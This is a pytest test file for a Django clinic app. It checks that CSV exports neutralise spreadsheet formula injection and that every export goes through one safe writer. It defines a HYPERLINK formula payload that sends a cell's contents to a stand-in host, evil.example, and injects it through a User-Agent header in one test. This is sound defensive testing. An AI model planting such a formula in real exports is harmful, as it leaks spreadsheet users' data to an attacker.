"""CSV exports open in a spreadsheet as text: no cell a visitor wrote becomes a formula."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from clinic.csv_safe import csv_lines, spreadsheet_safe
from clinic.models import AuditEntry

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK_PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK_PAYLOAD, "'" + HYPERLINK_PAYLOAD),
        ("+441234", "'+441234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Zoë Ahmed", "Zoë Ahmed"),
        ("a = b", "a = b"),
        ("", ""),
        (None, None),
        (42, 42),
        (-3, -3),
        (Decimal("-1.5"), Decimal("-1.5")),
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value: Any, cell: Any):
    assert spreadsheet_safe(value) == cell


def test_every_cell_is_quoted_so_a_semicolon_cannot_start_a_new_cell():
    lines = list(csv_lines(header=["name"], rows=[["Ann;=1+1"]]))
    assert lines == ['"name"\r\n', '"Ann;=1+1"\r\n']


@pytest.mark.django_db
def test_a_hyperlink_formula_in_a_user_agent_is_exported_as_text(client: Client, manager: Any):
    client.force_login(manager)
    # The export is itself audited, with the browser's user agent.
    client.get("/audit/export.csv", HTTP_USER_AGENT=HYPERLINK_PAYLOAD)
    assert AuditEntry.objects.filter(user_agent=HYPERLINK_PAYLOAD).exists()

    response = client.get("/audit/export.csv")
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    agents = {row["user_agent"] for row in rows if "evil.example" in row["user_agent"]}
    assert agents == {"'" + HYPERLINK_PAYLOAD}
    # No cell anywhere in the file starts a formula.
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_every_csv_export_writes_through_the_safe_writer():
    """One place makes CSV safe: no other app module builds its own CSV writer."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for app in ("clinic", "bookings", "treatments")
        for path in (ROOT / app).rglob("*.py")
        if path.name != "csv_safe.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
